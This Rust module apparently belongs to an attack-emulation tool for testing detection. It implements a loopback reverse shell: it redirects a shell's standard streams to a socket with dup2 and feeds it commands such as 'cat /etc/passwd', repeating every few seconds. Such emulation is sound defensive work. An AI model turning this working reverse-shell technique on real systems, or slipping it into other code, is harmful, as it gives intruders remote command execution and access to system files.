//! A shell whose stdin, stdout and stderr are a socket to somebody else, on loopback.

use std::{
    io::{BufRead, BufReader, Write},
    net::TcpStream,
    os::{fd::AsRawFd, unix::process::CommandExt},
    path::Path,
    process::Command,
    sync::Mutex,
    time::Duration,
};

use super::{Act, ActError, Ctx, Info, Kind, Signal, peer::Peer};

pub struct ReverseShell;

static INFO: Info = Info {
    name: "reverse_shell",
    kind: Kind::Anomaly,
    attack_id: "T1059.004",
    about: "connects out, puts the socket in place of stdio, runs a shell, every 1 to 6 s",
    needs: "a shell",
    signals: &[Signal::SocketDup, Signal::ShellExec],
};

/// What its master types.
const COMMANDS: [&str; 4] = ["id", "uname", "ls /srv", "cat /etc/passwd"];

impl Act for ReverseShell {
    fn info(&self) -> &'static Info {
        &INFO
    }

    fn run(&self, ctx: &mut Ctx) -> Result<String, ActError> {
        let shell = ["/usr/bin/sh", "/bin/sh"]
            .into_iter()
            .find(|path| Path::new(path).exists())
            .ok_or(ActError::Missing { what: "shell" })?;
        let answers = std::sync::Arc::new(Mutex::new(0u64));
        let heard = std::sync::Arc::clone(&answers);
        let master = Peer::start(0, move |stream| command(stream, &heard))?;
        let pause = Duration::from_secs_f64(ctx.scale(6.0, 1.0));
        let mut shells = 0u64;
        // At least once, however short its time.
        loop {
            run(shell, &master)?;
            shells += 1;
            ctx.sleep(pause);
            if ctx.over() {
                let lines = answers.lock().map(|count| *count).unwrap_or(0);
                return Ok(format!("{shells} shells, {lines} lines back"));
            }
        }
    }
}

fn command(stream: &mut TcpStream, heard: &Mutex<u64>) -> std::io::Result<()> {
    for line in COMMANDS {
        writeln!(stream, "{line}")?;
    }
    writeln!(stream, "exit")?;
    for line in BufReader::new(stream).lines() {
        line?;
        if let Ok(mut count) = heard.lock() {
            *count += 1;
        }
    }
    Ok(())
}

fn run(shell: &str, master: &Peer) -> Result<(), ActError> {
    let socket = master.connect()?;
    let fd = socket.as_raw_fd();
    let mut command = Command::new(shell);
    // SAFETY: dup2 is async-signal-safe; nothing else happens between fork and exec.
    unsafe {
        command.pre_exec(move || {
            for stdio in 0..=2 {
                if libc::dup2(fd, stdio) < 0 {
                    return Err(std::io::Error::last_os_error());
                }
            }
            Ok(())
        });
    }
    let status = command.status().map_err(ActError::io("run", shell))?;
    match status.success() {
        true => Ok(()),
        false => Err(ActError::io("run", shell)(std::io::Error::other(
            status.to_string(),
        ))),
    }
}
